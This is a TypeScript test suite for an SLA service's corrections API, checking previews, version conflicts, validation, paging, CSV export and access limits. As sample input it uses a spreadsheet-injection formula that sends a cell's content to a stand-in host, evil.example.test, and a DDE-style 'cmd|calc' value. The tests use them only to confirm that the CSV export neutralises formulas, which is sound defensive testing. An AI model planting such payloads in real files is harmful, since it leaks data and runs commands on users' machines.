import type { Facts } from '@upheld/domain/sla/facts.ts';
import { statement } from '@upheld/domain/sla/statement.ts';
import type { WorksheetView } from '@upheld/services/read/worksheet-view.ts';
import { testConfig } from '@upheld/testkit/config.ts';
import { eachDatabase } from '@upheld/testkit/databases.ts';
import { recorder } from '@upheld/testkit/recorded.ts';
import assert from 'node:assert/strict';
import { before, it } from 'node:test';
import { harness, problemIn, type Answer, type Harness } from '../../test/harness.ts';

const config = testConfig({
  groups: [
    {
      id: 'open',
      name: 'Open',
      components: [
        {
          id: 'shop',
          name: 'Shop',
          agreements: [{ agreement: 'standard' }],
          monitors: [{ id: 'shop-web', kind: 'http', url: 'http://shop.example.test/' }],
        },
      ],
    },
  ],
});
const HOUR = 3_600_000;
const FORMULA = `=HYPERLINK("http://evil.example.test/?"&A1,"why")`;
const why = { reason: FORMULA, evidence: '@SUM(1+1)*cmd|calc' };
interface Given {
  id: string;
  standing: string;
  recordedBy: string;
  outage: { version: number };
}

eachDatabase('corrections over the API', (databases) => {
  let h: Harness;
  let outages: string[];
  before(async () => {
    const db = await databases.open();
    h = await harness(db, { config });
    const record = recorder(db);
    const now = h.ctx.clock.now();
    await record.beat(now);
    await record.measured('shop', now - 1000 * HOUR);
    for (const ago of [30, 20, 10])
      await record.outage({
        component: 'shop',
        from: now - ago * HOUR,
        to: now - (ago - 1) * HOUR,
      });
    const { q, t } = db.read;
    const rows = await q.select().from(t.outages);
    outages = rows.sort((a, b) => a.startedAt - b.startedAt).map(({ id }) => id);
  });
  const figure = '/api/v1/components/shop';
  const json = <T>(answer: Answer): T => answer.json as T;
  const down = async (as?: string): Promise<number | undefined> => {
    const query = as === undefined ? '' : `?as=${as}`;
    const answer = await h.ask('GET', `${figure}/worksheet${query}`);
    return json<WorksheetView>(answer).statement.availability[0]?.seconds.down;
  };

  it('show beforehand what they do, and do exactly that', async () => {
    const said = { outageId: outages[0], kind: 'false-alarm' };
    const seen = await h.as('POST', '/api/v1/corrections/preview', said);
    const [{ periods } = { periods: [] }] = json<{
      agreements: { periods: { period: string; before: unknown; after: unknown }[] }[];
    }>(seen).agreements;
    const [year] = periods;
    assert.ok(year);
    assert.equal(await down(), 3 * 3600);
    const added = await h.as('POST', '/api/v1/corrections', { ...said, ...why });
    assert.equal(added.status, 201);
    assert.equal(json<Given>(added).recordedBy, 'tests');
    const query = new URLSearchParams({
      period: year.period,
      asOf: new Date(h.ctx.clock.now()).toISOString(),
    }).toString();
    for (const [as, wanted] of [
      ['recorded', year.before],
      ['corrected', year.after],
    ] as const)
      assert.deepEqual((await h.ask('GET', `${figure}/statement?${query}&as=${as}`)).json, wanted);
    const one = await h.as('GET', added.headers.get('location') ?? '');
    assert.deepEqual(one.json, added.json);
  });

  it('leave both statements to be had, each from its facts', async () => {
    assert.equal(await down(), 2 * 3600);
    assert.equal(await down('corrected'), 2 * 3600);
    assert.equal(await down('recorded'), 3 * 3600);
    const agreement = h.ctx.agreements().get('standard');
    for (const as of ['recorded', 'corrected']) {
      const facts = json<Facts>(await h.ask('GET', `${figure}/facts?as=${as}`));
      const made = await h.ask('GET', `${figure}/statement?as=${as}`);
      assert.deepEqual(statement(facts, agreement), made.json);
    }
    assert.equal(problemIn(await h.ask('GET', `${figure}/facts?as=best`)).status, 400);
  });

  it('tell the public what and why, and not who or by what evidence', async () => {
    const answer = await h.ask('GET', `${figure}/worksheet`);
    const [correction] = json<WorksheetView>(answer).corrections;
    assert.deepEqual(
      [correction?.kind, correction?.by, correction?.reason],
      ['false-alarm', 'manager', FORMULA],
    );
    assert.ok(!answer.text.includes('cmd|calc'));
    assert.ok(!answer.text.includes('tests'));
  });

  it('are refused to a caller that read an older version', async () => {
    const said = { outageId: outages[1], kind: 'cause', cause: 'force-majeure', ...why };
    const stale = '"7-abc"';
    const refused = await h.ask('POST', '/api/v1/corrections', {
      body: said,
      token: h.token,
      headers: { 'if-match': stale },
    });
    assert.equal(problemIn(refused).status, 412);
    const added = await h.as('POST', '/api/v1/corrections', said);
    const etag = added.headers.get('etag');
    assert.ok(etag?.startsWith('"2-') === true);
    const path = `/api/v1/corrections/${json<Given>(added).id}/withdraw`;
    assert.equal((await h.as('POST', `${path}/preview`)).status, 200);
    const back = await h.ask('POST', path, {
      body: why,
      token: h.token,
      headers: { 'if-match': etag },
    });
    assert.equal(json<Given>(back).standing, 'withdrawn');
    assert.equal(problemIn(await h.as('POST', path, why)).status, 409);
  });

  it('name what is wrong with them', async () => {
    const add = (body: unknown) => h.as('POST', '/api/v1/corrections', body);
    const said = { outageId: outages[2], kind: 'cause', ...why };
    assert.deepEqual(problemIn(await add(said)).faults, [
      { path: 'cause', message: 'is missing; a correction of the kind "cause" needs it' },
    ]);
    assert.equal(problemIn(await add({ ...said, cause: 'aliens' })).status, 422);
    assert.equal(problemIn(await add({ ...said, evidence: '' })).status, 422);
    assert.equal(problemIn(await add({ ...said, outageId: 'x', cause: 'internet' })).status, 404);
    assert.equal(problemIn(await h.as('GET', '/api/v1/corrections/x')).status, 404);
  });

  it('are listed a page at a time, and the outages with what each does', async () => {
    const list = (query: string) => h.as('GET', `/api/v1/corrections?${query}`);
    interface Page {
      corrections: Given[];
      next: string | null;
    }
    const first = json<Page>(await list('component=shop&limit=1'));
    assert.ok(first.next);
    const rest = json<Page>(await list(`component=shop&limit=1&cursor=${first.next}`));
    assert.equal(rest.next, null);
    assert.notEqual(rest.corrections[0]?.id, first.corrections[0]?.id);
    const none = new Date(h.ctx.clock.now() - HOUR).toISOString();
    assert.deepEqual(json<Page>(await list(`from=${none}`)).corrections, []);
    const effects = json<{ outages: { recorded: object; corrected: object | null }[] }>(
      await h.as('GET', `${figure}/outages`),
    ).outages;
    assert.deepEqual(
      effects.map(({ corrected }) => corrected === null),
      [false, false, true],
    );
  });

  it('become a table in which no cell is a formula', async () => {
    const answer = await h.as('GET', '/api/v1/corrections.csv');
    assert.match(answer.headers.get('content-type') ?? '', /^text\/csv/);
    const lines = answer.text.split('\r\n').filter((line) => line !== '');
    assert.equal(lines.length, 3);
    for (const line of lines) assert.doesNotMatch(line, /(^|,)"?[=+\-@\t]/);
    assert.ok(answer.text.includes(`'=HYPERLINK`));
  });

  it('are for managers: other scopes may not even read them', async () => {
    const paths = ['/api/v1/corrections', '/api/v1/corrections.csv', `${figure}/outages`];
    for (const path of paths) assert.equal(problemIn(await h.ask('GET', path)).status, 401);
  });
});
